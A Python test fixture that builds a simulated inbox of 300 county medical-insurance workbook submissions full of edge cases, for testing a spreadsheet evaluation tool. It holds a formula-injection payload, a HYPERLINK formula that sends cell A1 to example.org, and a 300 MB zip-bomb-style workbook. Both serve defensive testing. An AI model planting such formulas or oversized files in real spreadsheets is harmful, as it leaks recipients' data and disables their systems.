"""一个省: three hundred units and what they sent, with everything that goes wrong in a year; who did what is known."""

import csv
import email.message
import io
import os
import shutil
import zipfile
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import xlsxwriter

from perfeval_xl.submission.making import Request, make_submission
from perfeval_xl.workbook.building.builder import build, case_named
from perfeval_xl.workbook.results.cell_patch import set_cells
from tests.submission.conftest import REASON
from tests.submission.office_form import office_form
from tests.workbook.drawn_form import drawn_form
from tests.workbook.hostile import compound

YEAR = 2023
EVIL = '=HYPERLINK("http://example.org/?"&A1,"见附件")'
UNITS = tuple(f"第{number:03d}县医保局" for number in range(1, 301))
SUBMITTED, DOUBLED = UNITS[:60], UNITS[:5]
TAMPERED = UNITS[10:15]
LIVING, DRAWN = UNITS[60:90], UNITS[90:130]
MISSING, ENCRYPTED, TRUNCATED = UNITS[284:294], UNITS[294:297], UNITS[297:299]
BOMB, MACROS, INJECTED = UNITS[299:], UNITS[60:61], UNITS[130:132]


@dataclass
class Province:
    """Where it all lies."""

    inbox: Path
    roster: Path


def drawn_up(folder, soffice_changes):
    """The inbox of a province; ``soffice_changes(source, target)`` changes a submission through LibreOffice."""
    inbox, bench = folder / "收件", folder / "台"
    inbox.mkdir()
    bench.mkdir()
    province = Province(inbox, folder / "名单.csv")
    with open(province.roster, "w", encoding="gb18030", newline="") as file:
        csv.writer(file).writerows([["序号", "单位名称"], *([number, unit] for number, unit in enumerate(UNITS, 1))])
    living = _living(bench)
    _submissions(inbox, bench, living, soffice_changes)
    for number, unit in enumerate(LIVING):
        set_cells(str(living[unit in MACROS]), str(inbox / f"{unit}{living[unit in MACROS].suffix}"), {"自评表": {(33 + number % 3, 14): f"备注{number}"}})
    _drawn_forms(inbox)
    for unit in UNITS[130:284]:
        office_form(inbox / f"{unit}.xlsx", unit, YEAR, remark=EVIL if unit in INJECTED else "")
    _unreadable(inbox, bench)
    _boxed(inbox)
    return province


def _living(bench):
    form, case = case_named("bazhou-2023-resident-fund")
    found = {}
    for macros, name in ((False, "基金.xlsx"), (True, "基金.xlsm")):
        found[macros] = bench / name
        build(form, case, str(found[macros]))
    return found


def _submissions(inbox, bench, living, soffice_changes):
    for number, unit in enumerate(SUBMITTED):
        source = office_form(bench / f"{unit}.xlsx", unit, YEAR) if number % 2 else living[False]
        made = make_submission(str(source), str(bench / f"{unit}_报送.xlsx"), Request(forced=REASON if number % 2 else "", unit=unit)).path
        if unit in TAMPERED[:3]:
            soffice_changes(made, inbox / f"{unit}_报送.xlsx")
        elif unit in TAMPERED:
            _changed_by_openpyxl(made, inbox / f"{unit}_报送.xlsx")
        else:
            shutil.copy(made, inbox / f"{unit}_报送.xlsx")
        if unit in DOUBLED:
            (inbox / "补报").mkdir(exist_ok=True)
            again = inbox / "补报" / f"{unit}_报送_改.xlsx"
            make_submission(str(source), str(again), Request(forced=REASON if number % 2 else "", unit=unit))
            _set_back(inbox / f"{unit}_报送.xlsx")


def _set_back(path):
    """A day older than what came later; the record knows only seconds."""
    os.utime(path, (path.stat().st_mtime - 86_400,) * 2)


def _changed_by_openpyxl(source, target):
    book = openpyxl.load_workbook(source)
    book["自评表"]["H13" if book["自评表"]["A1"].value.startswith("城乡") else "G11"] = 3
    book.save(target)


def _drawn_forms(inbox):
    seeds = iter(range(10_000))
    for unit in DRAWN:
        sheet = next(sheet for sheet, expected in map(drawn_form, seeds) if expected.year == YEAR)
        write_grid(inbox / f"{unit}上报的表.xlsx", sheet)


def write_grid(path, sheet):
    """A sheet of cells as a workbook of its own."""
    with xlsxwriter.Workbook(path, {"strings_to_formulas": False, "strings_to_urls": False}) as book:
        page, looks = book.add_worksheet("自评表"), {}
        for (row, column), cell in sheet.cells.items():
            look = looks.setdefault(cell.number_format, book.add_format({"num_format": cell.number_format}))
            page.write(row - 1, column - 1, cell.value, look)
        for area in sheet.merges:
            corner = sheet.cells.get((area.first_row, area.first_column))
            look = looks.setdefault(corner.number_format if corner else "General", book.add_format())
            page.merge_range(area.first_row - 1, area.first_column - 1, area.last_row - 1, area.last_column - 1, corner.value if corner else "", look)


def _unreadable(inbox, bench):
    for unit in ENCRYPTED:
        (inbox / f"{unit}.xlsx").write_bytes(compound({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b"y"}))
    for unit in TRUNCATED:
        whole = office_form(bench / f"{unit}.xlsx", unit, YEAR).read_bytes()
        (inbox / f"{unit}.xlsx").write_bytes(whole[: len(whole) // 2])
    with zipfile.ZipFile(inbox / f"{BOMB[0]}.xlsx", "w", zipfile.ZIP_DEFLATED) as package, zipfile.ZipFile(office_form(bench / "bomb.xlsx", BOMB[0], YEAR)) as good:
        for name in good.namelist():
            package.writestr(name, b" " * (300 << 20) if name == "xl/worksheets/sheet1.xml" else good.read(name))


def _boxed(inbox):
    """Some came packed by a Chinese zip program, some as attachments of mails."""
    packed, mailed = UNITS[270:276], UNITS[276:280]
    with zipfile.ZipFile(inbox / "东片.zip", "w") as box:
        for unit in packed:
            path = inbox / f"{unit}.xlsx"
            box.writestr(zipfile.ZipInfo(path.name.encode("gb18030").decode("cp437", "replace"), (2024, 3, 1, 9, 0, 0)), path.read_bytes())
            path.unlink()
    for unit in mailed:
        path = inbox / f"{unit}.xlsx"
        mail = email.message.EmailMessage()
        mail["Subject"], mail["Date"] = "报送", "Mon, 04 Mar 2024 09:00:00 +0800"
        mail.set_content("见附件")
        mail.add_attachment(path.read_bytes(), maintype="application", subtype="octet-stream", filename=path.name)
        buffer = io.BytesIO(mail.as_bytes())
        (inbox / f"{unit}.eml").write_bytes(buffer.getvalue())
        path.unlink()
